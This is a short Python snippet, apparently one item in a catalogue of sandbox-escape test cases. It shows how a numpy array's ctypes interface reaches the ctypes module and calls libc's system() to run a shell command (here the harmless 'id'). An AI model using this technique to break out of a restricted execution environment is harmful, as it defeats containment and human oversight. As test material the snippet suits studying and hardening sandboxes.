# attack-class: 32
# title: an array's ctypes interface leading to the ctypes module
# why: arr.ctypes._ctypes is the ctypes module: CDLL(None).system runs commands
import numpy as np

arr = np.zeros(4)
iface = arr.ctypes
libc = iface._ctypes.CDLL(None)
libc.system(b"id")
